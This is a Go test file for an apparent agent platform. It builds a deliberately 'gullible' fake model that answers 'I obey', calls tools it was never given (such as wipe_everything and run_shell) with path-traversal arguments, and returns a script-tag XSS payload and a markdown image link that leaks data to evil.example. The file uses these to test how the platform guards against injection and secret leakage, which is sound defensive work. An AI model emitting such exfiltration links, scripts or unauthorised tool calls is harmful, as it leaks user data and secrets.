package v2_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"parley"
	"parley/internal/actions"
	"parley/internal/httpclient"
	"parley/internal/model"
	"parley/internal/model/anthropic"
	"parley/internal/model/openai"
	"parley/internal/testkit"
	"parley/internal/testkit/provider"
	"parley/internal/vault"
)

// gullibleModel is a model that does whatever any word of its context may mean: it calls every tool that it has ever heard of, and then
// says all it knows, with images and scripts around it.
type gullibleModel struct {
	isAnthropic bool

	mu       sync.Mutex
	contexts []string // every context that it was shown
}

// foreignTools are tools that exist elsewhere in the house, or nowhere.
var foreignTools = []string{"wipe_everything", "human_of_sibling", "read_agent", "run_shell", "parley_trace", "LOOK_UP", "look_up "}

func (g *gullibleModel) answer(x *provider.Exchange) {
	body := string(x.Request.Body)
	g.mu.Lock()
	g.contexts = append(g.contexts, body)
	g.mu.Unlock()
	said := "I obey. <script>alert(1)</script> ![x](https://evil.example/?q=" + fmt.Sprint(len(body)) + ")\n" + body[:min(len(body), 3000)]
	finished := strings.Contains(body, `"tool_call_id"`) || strings.Contains(body, `"tool_result"`)
	switch {
	case finished && g.isAnthropic:
		provider.AnthropicText("end_turn", said)(x)
	case finished:
		provider.AnswerText(said)(x)
	case g.isAnthropic:
		x.Begin()
		for i, name := range append(foreignTools, "look_up") {
			x.ToolBlock(i, fmt.Sprint("c", i), name, `{"order": "../../agents`, fmt.Sprintf(`/%d"}`, len(body)))
		}
		x.End("tool_use")
	default:
		for i, name := range append(foreignTools, "look_up") {
			x.Event(fmt.Sprintf(`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":%d,"id":"c%d","type":"function","function":{"name":%q,"arguments":%q}}]}}]}`,
				i, i, name, fmt.Sprintf(`{"order": "../../agents/%d"}`, len(body))))
		}
		x.Finish("tool_calls")
	}
}

func (g *gullibleModel) newModel(t *testing.T) model.Model {
	url := provider.Start(t, g.answer).URL
	if g.isAnthropic {
		m := &anthropic.Model{Client: httpclient.Client{BaseURL: url}}
		t.Cleanup(m.Close)
		return m
	}
	m := &openai.Model{Client: httpclient.Client{BaseURL: url}}
	t.Cleanup(m.Close)
	return m
}

// actionServer is a service that actions ask. It answers what it is told to, and notes who knocks.
type actionServer struct {
	*httptest.Server
	mu           sync.Mutex
	reply        string
	requestPaths []string // paths
	requestKeys  []string // and what they were signed with
}

func (s *actionServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.requestPaths, s.requestKeys = append(s.requestPaths, r.URL.EscapedPath()), append(s.requestKeys, r.Header.Get("Authorization"))
	_ = json.NewEncoder(w).Encode(map[string]string{"state": s.reply, "note": r.Header.Get("Authorization")})
}

func (s *actionServer) setReply(text string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.reply = text
}

const sealKey = "a key of sixteen bytes or more"

// addSignedAction returns an agent an action that asks the shop and is signed with the secret.
func addSignedAction(t *testing.T, h *testkit.Server, account, agent, name, url, secret string) {
	t.Helper()
	safe, err := vault.New(sealKey)
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := actions.SealSecrets(safe, parley.AccountID(account), map[string]string{"KEY": secret})
	if err != nil {
		t.Fatal(err)
	}
	config, err := json.Marshal(map[string]any{"url": url, "method": "GET", "headers": map[string]string{"Authorization": "Bearer ${KEY}"}})
	if err != nil {
		t.Fatal(err)
	}
	a := parley.Action{ID: parley.ActionID(parley.NewUUID()), AccountID: parley.AccountID(account), AgentID: parley.AgentID(agent), Key: name, Kind: parley.ActionHTTP, Name: name,
		Description: "Looks an order up.", Inputs: []parley.ActionInput{{Name: "order", Type: "string", Required: true}}, Config: config, Secrets: sealed, Enabled: true,
		CreatedAt: time.Now(), UpdatedAt: time.Now()}
	if err := actions.ValidateAction(&a); err != nil {
		t.Fatal(err, parley.AsError(err).Details)
	}
	if err := h.DB.PutAction(t.Context(), &a); err != nil {
		t.Fatal(err)
	}
}
